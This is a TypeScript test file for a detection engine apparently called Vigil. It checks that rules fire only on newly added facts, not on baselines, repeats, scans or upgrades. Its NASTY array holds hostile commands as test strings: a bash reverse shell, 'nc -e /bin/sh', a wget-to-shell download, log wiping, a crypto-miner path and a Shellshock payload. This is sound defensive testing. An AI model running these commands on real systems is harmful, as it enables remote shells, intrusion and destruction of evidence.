// SPDX-License-Identifier: Apache-2.0
/**
 * What is only said to be so alarms nobody: no rule, ours or of a pack, fires on a baseline, on a fact said again, on a scan or on an upgrade.
 * Input: every kind of fact with names that attacks have. Output: the claim, over all rules that come with Vigil.
 */
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { declarations, decode } from '../../collector/decode/decode.ts';
import { makeDetector } from '../../collector/detect/detect.ts';
import { readRuleFolders } from '../../collector/detect/folder.ts';
import { compileRuleSet } from '../../collector/detect/ruleset.ts';
import { FACT_KINDS, type FactKind, factText } from '../../core/fact.ts';
import { hashId } from '../../core/ids.ts';
import { unixMs } from '../../core/units.ts';
import { ROOT } from '../support/repository.ts';

const ruleset = compileRuleSet(await readRuleFolders(['sigma', 'correlation', 'packs'].map((name) => join(ROOT, 'rules', name))));
const detector = makeDetector(ruleset, { sources: declarations() });
const AT = unixMs(Date.UTC(2026, 10, 24, 9));

/** Texts that rules look for anywhere. */
const NASTY = [
  '/etc/ld.so.preload',
  '/etc/cron.d/persist',
  '/etc/sudoers.d/x',
  '/etc/profile.d/x.sh',
  '/dev/tcp/1.2.3.4/443',
  'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
  'wget http://1.2.3.4/x -O- | sh',
  'rm -rf /var/log/syslog; history -c',
  'nc -e /bin/sh 1.2.3.4 4444',
  '/tmp/.x/xmrig --donate-level 1',
  'entered promiscuous mode',
  '() { :; }; /bin/bash',
];

const matchesOf = (kind: FactKind, change: 'baseline' | 'seen' | 'added', text: string): readonly string[] => {
  const { dataset } = FACT_KINDS[kind];
  const fields = Object.fromEntries(FACT_KINDS[kind].fields.split(' ').map((name) => [name, name === 'mode' ? '4755' : text]));
  const { outcome, event } = decode({
    bytes: Buffer.from(factText({ kind, item: text, change, at: AT, fields })),
    seq: 1,
    flags: 0,
    readAt: AT,
    dataset,
    zone: 'UTC',
    from: {
      collector: 'c',
      incarnation: 'i',
      offset: 0,
      generation: 1,
      agent: hashId('agt', 'a'),
      host: { id: hashId('ast', 'h'), name: 'web1' },
      stream: dataset,
      epoch: '0'.repeat(32),
      ingested: AT,
      replay: false,
    },
  });
  expect(outcome).toBe('ok');
  const found: string[] = [];
  detector.detectDecoded(event, ({ rule }) => found.push(`${rule.id} ${rule.title} on ${kind} ${change} ${text}`));
  return found;
};

test('no rule fires on what is at first sight, said again, the end of a scan, or an upgrade', () => {
  const found: string[] = [];
  for (const text of NASTY) {
    for (const kind of Object.keys(FACT_KINDS) as FactKind[])
      for (const change of ['baseline', 'seen'] as const) found.push(...matchesOf(kind, change, text));
    found.push(...matchesOf('upgrade', 'added', text));
  }
  expect(found).toEqual([]);
});

test('a rule does fire on what was added', () => {
  expect(matchesOf('file', 'added', '/etc/cron.d/persist').length).toBeGreaterThan(0);
});
